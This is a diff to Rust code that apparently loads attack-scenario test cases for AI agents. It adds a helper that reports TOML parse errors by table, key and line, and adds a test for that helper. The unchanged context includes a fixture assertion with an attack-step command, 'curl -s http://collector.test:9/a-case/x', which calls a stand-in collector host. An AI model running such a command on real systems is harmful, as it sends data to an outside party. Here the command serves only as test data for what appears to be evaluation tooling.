@@ -495,13 +495,33 @@ pub fn load_dir(dir: &Path) -> Result<Vec<Case>, Vec<CaseError>> {
     if errors.is_empty() { Ok(cases) } else { Err(errors) }
 }
 
+/// Where byte `at` of a TOML text is, for a person: the key of its line
+/// (the field a parse error is about, under its table) and the line
+/// number, e.g. `[goal] kind (line 5)`.
+fn where_in(text: &str, at: usize) -> String {
+    let before = &text[..at.min(text.len())];
+    let line_no = before.matches('\n').count() + 1;
+    let line = text.lines().nth(line_no - 1).unwrap_or_default();
+    let table = before
+        .lines()
+        .rev()
+        .map(str::trim)
+        .find(|l| l.starts_with('['))
+        .map(|t| format!("{t} "))
+        .unwrap_or_default();
+    match line.split_once('=') {
+        Some((key, _)) => format!("{table}{} (line {line_no})", key.trim()),
+        None => format!("{table}line {line_no}"),
+    }
+}
+
 /// The case in `folder`.
 pub fn load_case(folder: &Path) -> Result<Case, Vec<CaseError>> {
     let file = folder.join("case.toml");
     let text =
         std::fs::read_to_string(&file).map_err(|e| vec![err(&file, "-", format!("cannot read: {e}"))])?;
     let parsed: CaseFile = toml::from_str(&text).map_err(|e| {
-        let field = e.span().map(|s| format!("at byte {}", s.start)).unwrap_or_else(|| "-".into());
+        let field = e.span().map(|s| where_in(&text, s.start)).unwrap_or_else(|| "-".into());
         vec![err(&file, &field, e.message().to_owned())]
     })?;
     let name = folder.file_name().map(|n| n.to_string_lossy().into_owned()).unwrap_or_default();
@@ -1009,6 +1029,18 @@ fixed = "3.1.4-r6"
         assert_eq!(text(&benign, "Dockerfile"), "FROM registry.test:5/a\n");
         let step = values.fill_json(&case.name, &case.attack[0].args);
         assert_eq!(step["command"], "curl -s http://collector.test:9/a-case/x");
+    }
+
+    #[test]
+    fn a_parse_error_names_the_table_the_key_and_the_line() {
+        let dir = tempfile::tempdir().expect("tmp");
+        let bad = GOOD.replace("kind = \"unlisted_host\"", "kind = \"world_domination\"");
+        assert_ne!(bad, GOOD, "the fixture names its goal kind");
+        let folder = write_case(dir.path(), &bad, &[("README.md", readme())]);
+        let errors = load_case(&folder).expect_err("refused");
+        let text = errors[0].to_string();
+        assert!(text.contains("case.toml") && text.contains("[goal] kind (line "), "{text}");
+        assert!(text.contains("world_domination"), "{text}");
     }
 
     #[test]
